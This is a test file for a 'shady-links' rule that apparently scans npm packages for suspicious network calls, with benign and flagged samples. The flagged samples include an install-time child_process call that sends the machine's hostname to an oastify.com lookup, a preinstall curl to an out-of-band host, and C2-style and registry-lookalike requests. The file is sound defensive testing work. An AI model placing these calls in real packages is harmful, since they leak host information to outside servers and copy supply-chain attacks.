import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/shady-links.ts'

new RuleTester().run(rule, {
  valid: [
    "fetch('https://registry.npmjs.org/left-pad')",
    "fetch('http://127.0.0.1:3000/api'); fetch('http://192.168.1.10/x'); fetch('http://10.0.0.1/y')",
    "const url = 'https://example.invalid/docs'",
  ],
  invalid: [
    {
      name: 'a lookup of an out-of-band host run through child_process at install time',
      installTime: true,
      code: "const { exec } = require('child_process'); exec('nslookup ' + require('os').hostname() + '.x1.oastify.com')",
      errors: [{ severity: 'high', message: 'oastify.com' }],
    },
    { name: 'request to a raw IP', code: "fetch('http://192.0.2.10:8080/t')", errors: [{ severity: 'medium', message: 'raw IP' }] },
    { name: 'mention of a raw IP', code: "const u = 'http://198.51.100.7/x'", errors: [{ severity: 'low' }] },
    { name: 'campaign C2 shape', code: "require('request').post({ url: 'http://203.0.113.5:1224/uploads' })", errors: [{ severity: 'high', message: 'C2 shape' }] },
    { name: 'registry lookalike', code: "require('https').get('https://npmjsregister.invalid/checkupdate.php')", errors: [{ severity: 'high', message: 'package-registry' }] },
    { name: 'out-of-band service in an install script', manifest: { name: 'a', version: '99.0.0', scripts: { preinstall: 'curl https://abc.oastify.com/x' } }, errors: [{ severity: 'high', message: 'out-of-band' }] },
  ],
})
